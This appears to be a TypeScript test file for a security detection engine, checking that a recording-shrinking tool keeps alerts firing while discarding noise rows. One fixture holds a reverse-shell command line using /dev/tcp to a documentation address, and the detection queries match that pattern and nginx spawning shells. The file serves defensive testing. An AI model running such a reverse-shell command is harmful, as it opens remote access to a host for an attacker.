import { assert, assertEquals, assertRejects } from "@std/assert";
import fc from "fast-check";
import { openSandbox } from "../../../engine/sandbox/sandbox.ts";
import { CATALOGUE } from "../../../profiles/mod.ts";
import type { CompiledDetection } from "../../../model/compiled.ts";
import { replay } from "../../../testing/record/replay.ts";
import { countRows, minimise, shrink } from "../../../testing/record/shrink.ts";
import type { Recording } from "../../../testing/record/recording.ts";
import { detectionOf } from "../../engine/support.ts";
import { recordingOf, rowsOf } from "./support.ts";

Deno.test("minimise() finds just what a test needs, wherever it stands", async () => {
  await fc.assert(fc.asyncProperty(
    fc.integer({ min: 1, max: 200 }),
    fc.array(fc.nat(199), { maxLength: 6 }),
    async (size, wanted) => {
      const parts = Array.from({ length: size }, (_, index) => index);
      const needed = [...new Set(wanted.filter((one) => one < size))].sort((a, b) => a - b);
      const kept = await minimise(
        parts,
        (some) => Promise.resolve(needed.every((one) => some.includes(one))),
      );
      assertEquals(kept, needed);
    },
  ));
});

Deno.test("minimise() leaves nothing that could go alone, for any test", async () => {
  await fc.assert(fc.asyncProperty(
    fc.array(fc.array(fc.nat(11), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
    async (alternatives) => {
      const parts = Array.from({ length: 12 }, (_, index) => index);
      const passes = (some: readonly number[]) =>
        Promise.resolve(alternatives.some((all) => all.every((one) => some.includes(one))));
      const kept = await minimise(parts, passes);
      assert(await passes(kept));
      for (const one of kept) assert(!await passes(kept.filter((other) => other !== one)));
    },
  ));
});

/** A host with many processes, none of which is of any interest. */
function noise(count: number): Record<string, unknown>[] {
  return Array.from({ length: count }, (_, index) => ({
    pid: 1000 + index,
    ppid: 1,
    process_key: `boot:${1000 + index}:5`,
    name: `worker${index % 7}`,
    command_line: `/usr/bin/worker --id ${index}`,
    executable_path: "/usr/bin/worker",
    user_name: "app",
    start_time: index,
  }));
}

async function shrunk(compiled: CompiledDetection, recording: Recording) {
  await using sandbox = await openSandbox({ policy: "preferred", size: 1 });
  const options = { compiled, catalogue: CATALOGUE, sandbox };
  const before = await replay(recording, options);
  const { recording: smallest, runs } = await shrink(recording, options);
  const after = await replay(smallest, options);
  const tell = (replayed: typeof before) =>
    replayed.alerts.map(({ dedupe_key, title }) => [dedupe_key, title]);
  assertEquals(tell(after), tell(before));
  return { smallest, runs };
}

Deno.test("shrink() keeps firing and removes nearly all of a noisy recording", async () => {
  const compiled = detectionOf(
    "SELECT pid, name, command_line FROM processes WHERE command_line LIKE '%/dev/tcp/%'",
  );
  const shell = {
    ...noise(1)[0],
    pid: 7,
    name: "bash",
    command_line: "bash -i >& /dev/tcp/192.0.2.1/4444",
  };
  const rows = noise(2000);
  rows.splice(1234, 0, shell);
  const recording = recordingOf({ processes: rows });
  const { smallest } = await shrunk(compiled, recording);
  assert(countRows(smallest) <= countRows(recording) * 0.1);
  assertEquals(
    rowsOf(smallest),
    [{ pid: 7, name: "bash", command_line: shell.command_line }].map(
      ({ pid, name, command_line }) => ({ pid, name, command_line }),
    ),
  );
});

Deno.test("shrink() keeps both sides of a join, and rows that no alert points at", async () => {
  const compiled = detectionOf(
    `SELECT p.name, count(*) AS children FROM processes p JOIN processes c ON c.ppid = p.pid
WHERE p.name = 'nginx' AND c.name IN ('sh', 'bash') GROUP BY p.name`,
    "suppression: { by: [name, children], for: 1h }",
  );
  const rows = [
    ...noise(300),
    { pid: 50, ppid: 1, name: "nginx", user_name: "www-data" },
    ...noise(600).slice(300),
    { pid: 51, ppid: 50, name: "sh", user_name: "www-data" },
    { pid: 52, ppid: 50, name: "bash", user_name: "www-data" },
    { pid: 53, ppid: 50, name: "worker", user_name: "www-data" },
  ];
  const { smallest } = await shrunk(compiled, recordingOf({ processes: rows }));
  assertEquals(rowsOf(smallest), [
    { pid: 50, name: "nginx" },
    { pid: 51, ppid: 50, name: "sh" },
    { pid: 52, ppid: 50, name: "bash" },
  ]);
});

Deno.test("shrink() refuses a recording in which nothing fires", async () => {
  await using sandbox = await openSandbox({ policy: "preferred", size: 1 });
  const compiled = detectionOf("SELECT pid FROM processes WHERE name = 'nobody'");
  await assertRejects(
    () => shrink(recordingOf({ processes: noise(5) }), { compiled, catalogue: CATALOGUE, sandbox }),
    RangeError,
    "nothing fires",
  );
});
